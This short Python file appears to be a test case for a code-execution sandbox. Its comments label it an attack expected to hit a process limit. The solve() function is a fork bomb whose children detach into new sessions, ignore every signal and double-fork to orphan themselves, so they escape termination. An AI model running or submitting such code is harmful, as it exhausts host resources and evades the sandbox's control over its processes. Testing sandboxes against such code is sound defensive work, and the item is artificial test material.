# attack: starts processes that leave session and parent behind, and ignore signals
# outcome: error
# native.outcome: process-limit
import os
import signal


def solve(x):
    while True:
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 65):
                try:
                    signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError):
                    pass
            if os.fork() != 0:
                os._exit(0)
